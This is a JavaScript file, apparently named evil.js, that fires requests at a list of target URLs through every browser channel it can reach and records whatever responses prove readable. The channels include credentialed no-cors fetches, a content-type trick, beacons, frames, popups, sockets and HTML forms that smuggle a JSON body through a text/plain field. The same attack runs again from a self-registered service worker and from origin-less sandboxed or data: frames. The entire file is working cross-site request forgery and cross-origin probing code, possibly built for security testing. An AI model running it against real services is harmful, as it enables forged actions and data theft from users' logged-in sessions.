// Ways in which a page sends requests elsewhere. Each resolves to what of the answer could be read:
// null where nothing could. A page or a service worker runs it.
'use strict';

const LONGEST = 1000;
const AT_ONCE = 24;

function bounded(promise) {
  return Promise.race([promise, new Promise((done) => setTimeout(done, LONGEST, null))]);
}

async function read(promise) {
  try {
    const answer = await promise;
    if (answer.type === 'opaque' || answer.type === 'opaqueredirect') return null;
    return answer.status + ' ' + (await answer.text());
  } catch (_) {
    return null;
  }
}

const simple = (url, method, body) =>
  read(fetch(url, {method: method === 'GET' ? 'GET' : 'POST', mode: 'no-cors',
    credentials: 'include', ...(method === 'GET' ? {} : {body})}));
const kept = (url, method, body) =>
  read(fetch(url, {method: method === 'GET' ? 'GET' : 'POST', mode: 'no-cors', keepalive: true,
    ...(method === 'GET' ? {} : {body, headers: {'Content-Type': 'text/plain'}})}));
const asked = (url, method, body) =>
  read(fetch(url, {method, ...(method === 'GET' ? {} :
    {body, headers: {'Content-Type': 'application/json'}})}));
const tricked = (url, method, body) =>
  read(fetch(url, {method: method === 'GET' ? 'GET' : 'POST', mode: 'no-cors',
    ...(method === 'GET' ? {} :
      {body, headers: {'Content-Type': 'text/plain; application/json'}})}));

function asXhr(url, method, body) {
  return new Promise((done) => {
    const request = new XMLHttpRequest();
    request.open(method, url);
    request.onload = () => done(request.status + ' ' + request.responseText);
    request.onerror = () => done(null);
    request.send(method === 'GET' ? null : body);
  });
}

function beacon(url, method, body) {
  if (method !== 'GET') {
    navigator.sendBeacon(url, body);
    navigator.sendBeacon(url, new Blob([body], {type: 'text/plain'}));
    try {
      navigator.sendBeacon(url, new Blob([body], {type: 'application/json'}));
    } catch (_) { /* some browsers refuse that kind */ }
  }
  return null;
}

function framed(prepare) {
  return new Promise((done) => {
    const frame = document.createElement('iframe');
    frame.name = 'f' + Math.random();
    frame.onload = () => {
      let seen = null;
      try {
        const text = frame.contentDocument.body.innerText;
        seen = frame.contentWindow.location.href === 'about:blank' ? null : text;
      } catch (_) { /* of another origin */ }
      done(seen);
    };
    document.body.append(frame);
    prepare(frame);
  });
}

// A form that posts; of text/plain the name and value of a field make a body of JSON together.
const form = (kind) => (url, method, body) => method === 'GET' ? null : framed((frame) => {
  const form = document.createElement('form');
  form.action = url;
  form.method = 'POST';
  form.enctype = kind;
  form.target = frame.name;
  const field = document.createElement('input');
  field.name = body.slice(0, -1) + (body.length > 2 ? ',' : '') + '"x';
  field.value = '":1}';
  form.append(field);
  document.body.append(form);
  form.submit();
});

const inFrame = (url, method) => method === 'GET' ? framed((frame) => { frame.src = url; }) : null;

const element = (name, attribute, more = {}) => (url, method) => method !== 'GET' ? null :
  new Promise((done) => {
    const one = Object.assign(document.createElement(name), more);
    one.onload = () => done(name === 'img' ? 'shown ' + one.naturalWidth : null);
    one.onerror = () => done(null);
    one.onloadeddata = () => done('shown');
    one[attribute] = url;
    document.body.append(one);
  });

function script(url, method) {
  if (method !== 'GET') return null;
  return new Promise((done) => {
    const one = document.createElement('script');
    self.onerror = (message) => { done(/^Script error/.test(message) ? null : 'ran ' + message); };
    one.onload = () => done('ran');
    one.onerror = () => done(null);
    one.src = url;
    document.body.append(one);
  });
}

function sheet(url, method) {
  if (method !== 'GET') return null;
  return new Promise((done) => {
    const one = document.createElement('link');
    one.rel = 'stylesheet';
    one.onload = () => done('a style sheet');
    one.onerror = () => done(null);
    one.href = url;
    document.body.append(one);
  });
}

function stream(url, method) {
  if (method !== 'GET') return null;
  return new Promise((done) => {
    const source = new EventSource(url);
    source.onopen = () => { source.close(); done('a stream'); };
    source.onerror = () => { source.close(); done(null); };
  });
}

function socket(url, method) {
  if (method !== 'GET') return null;
  return new Promise((done) => {
    const one = new WebSocket(url.replace(/^http/, 'ws'));
    one.onopen = () => { one.close(); done('a socket'); };
    one.onerror = () => done(null);
  });
}

function opened(url, method) {
  if (method !== 'GET') return null;
  return new Promise((done) => {
    const other = self.open(url);
    if (!other) return done(null);
    self.onmessage = (event) => done('a message ' + event.data);
    setTimeout(() => {
      let seen = null;
      try {
        seen = other.document.body.innerText || null;
      } catch (_) { /* of another origin */ }
      try { other.postMessage('hello', '*'); } catch (_) { /* gone */ }
      other.close();
      done(seen);
    }, 300);
  });
}

const SENDING = {
  simple, kept, asked, tricked, asXhr, beacon,
  text: form('text/plain'), encoded: form('application/x-www-form-urlencoded'),
  multipart: form('multipart/form-data'),
};
const LOADING = {
  simple, asked, asXhr, inFrame, script, sheet, stream, socket, opened,
  img: element('img', 'src'), object: element('object', 'data'), embed: element('embed', 'src'),
  video: element('video', 'src', {preload: 'auto'}), audio: element('audio', 'src'),
};

// Every target by every way; what could be read, with the way and the target.
async function attack(targets) {
  const got = [], left = [...targets];
  async function go() {
    while (left.length) {
      const [method, url, body] = left.shift();
      const ways = method === 'GET' ? LOADING : SENDING;
      await Promise.all(Object.entries(ways).map(async ([name, way]) => {
        try {
          const seen = await bounded(way(url, method, body));
          if (seen !== null && seen !== undefined) got.push(`${name} ${method} ${url}: ${seen}`);
        } catch (_) { /* this way is closed here */ }
      }));
    }
  }
  await Promise.all(Array.from({length: AT_ONCE}, go));
  return got;
}

// The same from a worker, which has only some of the ways.
if (typeof ServiceWorkerGlobalScope !== 'undefined') {
  self.oninstall = () => self.skipWaiting();
  self.onactivate = (event) => event.waitUntil(self.clients.claim());
  self.onmessage = async (event) => {
    const got = [];
    await Promise.all(event.data.map(async ([method, url, body]) => {
      for (const way of [simple, kept, asked, tricked]) {
        const seen = await bounded(way(url, method, body));
        if (seen !== null) got.push(`worker ${way.name} ${method} ${url}: ${seen}`);
      }
    }));
    event.ports[0].postMessage(got);
  };
}

async function attackFromWorker(targets) {
  await navigator.serviceWorker.register('/evil.js');
  const ready = await navigator.serviceWorker.ready;
  const channel = new MessageChannel();
  const told = new Promise((done) => { channel.port1.onmessage = (event) => done(event.data); });
  ready.active.postMessage(targets, [channel.port2]);
  return told;
}

// The same from a document of no origin: sandboxed, or of a data: address.
async function attackFromNowhere(targets, kind) {
  const text = await (await fetch('/evil.js')).text();
  const inside = `<body><script>${text}
    attack(${JSON.stringify(targets)}).then((got) => parent.postMessage(got, '*'));</` + 'script>';
  const frame = document.createElement('iframe');
  const told = new Promise((done) => { self.onmessage = (event) => done(event.data); });
  frame.sandbox = 'allow-scripts allow-forms allow-popups allow-modals';
  if (kind === 'data') frame.src = 'data:text/html,' + encodeURIComponent(inside);
  else frame.srcdoc = inside;
  document.body.append(frame);
  return told;
}
